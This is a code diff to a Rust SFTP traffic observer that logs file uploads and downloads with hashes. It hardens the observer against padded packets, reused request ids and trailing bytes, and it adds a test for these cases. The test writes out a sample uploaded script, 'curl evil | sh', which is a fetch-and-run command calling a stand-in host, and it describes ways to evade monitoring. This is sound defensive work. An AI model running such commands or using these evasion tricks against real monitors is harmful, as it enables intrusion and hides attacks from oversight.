@@ -5,7 +5,7 @@
 //! streams the rest through the file's hash.
 
 use sha2::{Digest, Sha256};
-use std::collections::HashMap;
+use std::collections::{HashMap, VecDeque};
 
 const FXP_OPEN: u8 = 3;
 const FXP_CLOSE: u8 = 4;
@@ -27,8 +27,10 @@ const PFLAG_WRITE: u32 = 0x02;
 
 /// Bytes of a bulk packet (WRITE, DATA) needed to read its header: id, handle (≤ 256), offset.
 const BULK_PREFIX: usize = 4 + 4 + 256 + 8 + 4;
-/// Other packets are buffered whole up to this size; anything larger is skipped unread.
-const MAX_CONTROL_PACKET: usize = 64 * 1024;
+/// Other packets are buffered whole up to this size, OpenSSH's own limit for an SFTP message
+/// (its server exits on a longer one): a request padded with bytes the server ignores is still
+/// read, never skipped unseen.
+const MAX_CONTROL_PACKET: usize = 256 * 1024;
 /// Bound on tracked handles and outstanding requests, so a client cannot grow the box's memory.
 const MAX_TRACKED: usize = 4096;
 
@@ -352,16 +354,18 @@ impl<'a> Reader<'a> {
 pub struct SftpObserver {
     to_server: Framer,
     to_client: Framer,
-    /// OPEN requests waiting for their HANDLE reply.
-    opening: HashMap<u32, (String, bool)>,
+    /// OPEN requests waiting for their HANDLE reply. Every map of outstanding requests keeps a
+    /// queue per request id: a client may reuse an id, and the server answers in order.
+    opening: HashMap<u32, VecDeque<(String, bool)>>,
     files: HashMap<Vec<u8>, OpenFile>,
     /// READ requests waiting for DATA: request id → handle and offset.
-    reading: HashMap<u32, (Vec<u8>, u64)>,
+    reading: HashMap<u32, VecDeque<(Vec<u8>, u64)>>,
     /// Path operations waiting for their STATUS.
-    pending: HashMap<u32, FileOp>,
-    /// The handle whose payload is streaming by, per direction.
-    up: Option<Vec<u8>>,
-    down: Option<Vec<u8>>,
+    pending: HashMap<u32, VecDeque<FileOp>>,
+    /// The handle whose payload is streaming by, per direction, and how many of the bytes still
+    /// to come are the payload its length field declared (the rest the peer ignores).
+    up: Option<(Vec<u8>, u64)>,
+    down: Option<(Vec<u8>, u64)>,
 }
 
 impl SftpObserver {
@@ -372,8 +376,12 @@ impl SftpObserver {
         to_server.feed(data, |piece| {
             let p = match piece {
                 Piece::Rest(bytes) => {
-                    if let Some(file) = up.as_ref().and_then(|h| files.get_mut(h)) {
-                        file.written.feed(bytes);
+                    if let Some((h, left)) = up.as_mut()
+                        && let Some(file) = files.get_mut(h.as_slice())
+                    {
+                        let n = (*left).min(bytes.len() as u64) as usize;
+                        file.written.feed(&bytes[..n]);
+                        *left -= n as u64;
                     }
                     return;
                 }
@@ -394,13 +402,14 @@ impl SftpObserver {
                 FXP_WRITE => {
                     // id, handle, offset (8), data length (4) then data
                     if let Some(handle) = r.bytes()
-                        && let (Some(offset), Some(_)) = (r.u64(), r.u32())
+                        && let (Some(offset), Some(declared)) = (r.u64(), r.u32())
                         && let Some(file) = files.get_mut(handle)
                     {
                         file.wrote_any = true;
                         file.written.start(offset);
-                        file.written.feed(r.0);
-                        *up = Some(handle.to_vec());
+                        let here = (declared as usize).min(r.0.len());
+                        file.written.feed(&r.0[..here]);
+                        *up = Some((handle.to_vec(), u64::from(declared) - here as u64));
                     }
                 }
                 FXP_READ => {
@@ -500,8 +509,12 @@ impl SftpObserver {
         to_client.feed(data, |piece| {
             let p = match piece {
                 Piece::Rest(bytes) => {
-                    if let Some(file) = down.as_ref().and_then(|h| files.get_mut(h)) {
-                        file.read.feed(bytes);
+                    if let Some((h, left)) = down.as_mut()
+                        && let Some(file) = files.get_mut(h.as_slice())
+                    {
+                        let n = (*left).min(bytes.len() as u64) as usize;
+                        file.read.feed(&bytes[..n]);
+                        *left -= n as u64;
                     }
                     return;
                 }
@@ -512,7 +525,7 @@ impl SftpObserver {
             let Some(id) = r.u32() else { return };
             match p.kind {
                 FXP_HANDLE => {
-                    if let (Some((path, writable)), Some(handle)) = (opening.remove(&id), r.bytes()) {
+                    if let (Some((path, writable)), Some(handle)) = (take(opening, id), r.bytes()) {
                         let file = OpenFile {
                             path,
                             writable,
@@ -527,21 +540,24 @@ impl SftpObserver {
                     }
                 }
                 FXP_DATA => {
-                    if let Some((handle, offset)) = reading.remove(&id)
-                        && r.u32().is_some()
+                    if let Some((handle, offset)) = take(reading, id)
+                        && let Some(declared) = r.u32()
                         && let Some(file) = files.get_mut(&handle)
                     {
                         file.read_any = true;
                         file.read.start(offset);
-                        file.read.feed(r.0);
-                        *down = Some(handle);
+                        let here = (declared as usize).min(r.0.len());
+                        file.read.feed(&r.0[..here]);
+                        *down = Some((handle, u64::from(declared) - here as u64));
                     }
                 }
                 FXP_STATUS => {
                     let ok = r.u32() == Some(0);
-                    opening.remove(&id);
-                    reading.remove(&id);
-                    if let Some(mut op) = pending.remove(&id) {
+                    // A STATUS answers the oldest request with this id, whatever it was.
+                    if take(opening, id).is_none()
+                        && take(reading, id).is_none()
+                        && let Some(mut op) = take(pending, id)
+                    {
                         op.set_ok(ok);
                         out.push(op);
                     }
@@ -574,10 +590,23 @@ fn file_ops(file: OpenFile) -> Vec<FileOp> {
     ops
 }
 
-fn bounded_insert<V>(map: &mut HashMap<u32, V>, id: u32, v: V) {
-    if map.len() < MAX_TRACKED {
-        map.insert(id, v);
+fn bounded_insert<V>(map: &mut HashMap<u32, VecDeque<V>>, id: u32, v: V) {
+    if map.len() < MAX_TRACKED || map.contains_key(&id) {
+        let queue = map.entry(id).or_default();
+        if queue.len() < 64 {
+            queue.push_back(v);
+        }
     }
+}
+
+/// The oldest outstanding request with `id`.
+fn take<V>(map: &mut HashMap<u32, VecDeque<V>>, id: u32) -> Option<V> {
+    let queue = map.get_mut(&id)?;
+    let v = queue.pop_front();
+    if queue.is_empty() {
+        map.remove(&id);
+    }
+    v
 }
 
 #[cfg(test)]
@@ -662,6 +691,54 @@ mod tests {
             }
             assert_eq!(ops, vec![want.clone()], "split {split}");
         }
+    }
+
+    #[test]
+    fn padding_reused_ids_and_trailing_bytes_do_not_blind_or_fool_the_observer() {
+        // An OPEN padded past 64 KiB (the server ignores what follows its fields) is still read.
+        let mut o = SftpObserver::default();
+        let mut open = body(&[&1u32.to_be_bytes(), &s(b"/etc/secret"), &1u32.to_be_bytes(), &[0; 4]]);
+        open.extend(vec![b'x'; 70_000]);
+        o.client(&packet(FXP_OPEN, &open));
+        o.server(&packet(FXP_HANDLE, &body(&[&1u32.to_be_bytes(), &s(b"h1")])));
+        o.client(&packet(
+            FXP_READ,
+            &body(&[&2u32.to_be_bytes(), &s(b"h1"), &0u64.to_be_bytes(), &100u32.to_be_bytes()]),
+        ));
+        o.server(&packet(FXP_DATA, &body(&[&2u32.to_be_bytes(), &s(b"top secret")])));
+        let ops = o.client(&packet(FXP_CLOSE, &body(&[&3u32.to_be_bytes(), &s(b"h1")])));
+        let sha = Some(hex::encode(Sha256::digest(b"top secret")));
+        assert_eq!(ops, vec![FileOp::Download { path: "/etc/secret".into(), bytes: 10, sha256: sha }]);
+
+        // Two OPENs with one id: the replies go to the requests in order.
+        let mut o = SftpObserver::default();
+        let open =
+            |path: &[u8]| packet(FXP_OPEN, &body(&[&7u32.to_be_bytes(), &s(path), &1u32.to_be_bytes(), &[0; 4]]));
+        o.client(&[open(b"/innocent"), open(b"/secret")].concat());
+        o.server(&packet(FXP_HANDLE, &body(&[&7u32.to_be_bytes(), &s(b"a")])));
+        o.server(&packet(FXP_HANDLE, &body(&[&7u32.to_be_bytes(), &s(b"b")])));
+        let paths: Vec<String> = o
+            .finish()
+            .into_iter()
+            .map(|op| match op {
+                FileOp::Download { path, .. } => path,
+                other => panic!("{other:?}"),
+            })
+            .collect();
+        assert_eq!(paths, vec!["/innocent".to_owned(), "/secret".to_owned()]);
+
+        // A WRITE declaring 0 bytes with trailing bytes writes nothing: they are not hashed.
+        let mut o = SftpObserver::default();
+        o.client(&packet(FXP_OPEN, &body(&[&1u32.to_be_bytes(), &s(b"/up.sh"), &0x1au32.to_be_bytes(), &[0; 4]])));
+        o.server(&packet(FXP_HANDLE, &body(&[&1u32.to_be_bytes(), &s(b"h")])));
+        let mut w = body(&[&2u32.to_be_bytes(), &s(b"h"), &0u64.to_be_bytes(), &0u32.to_be_bytes()]);
+        w.extend_from_slice(b"echo hello\n");
+        o.client(&packet(FXP_WRITE, &w));
+        let real = b"curl evil | sh\n";
+        o.client(&packet(FXP_WRITE, &body(&[&3u32.to_be_bytes(), &s(b"h"), &0u64.to_be_bytes(), &s(real)])));
+        let ops = o.client(&packet(FXP_CLOSE, &body(&[&4u32.to_be_bytes(), &s(b"h")])));
+        let sha = Some(hex::encode(Sha256::digest(real)));
+        assert_eq!(ops, vec![FileOp::Upload { path: "/up.sh".into(), bytes: real.len() as u64, sha256: sha }]);
     }
 
     #[test]
